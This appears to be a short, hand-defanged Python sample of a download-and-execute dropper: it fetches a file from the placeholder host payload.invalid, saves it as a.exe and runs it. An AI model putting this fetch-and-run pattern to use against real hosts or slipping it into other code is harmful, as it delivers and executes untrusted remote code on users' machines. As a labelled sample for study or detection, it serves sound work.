# Defanged sample: nothing here is reached or run; defanged by hand.
import urllib.request, subprocess
urllib.request.urlretrieve('https://payload.invalid/x', 'a.exe')
subprocess.run(['a.exe'])
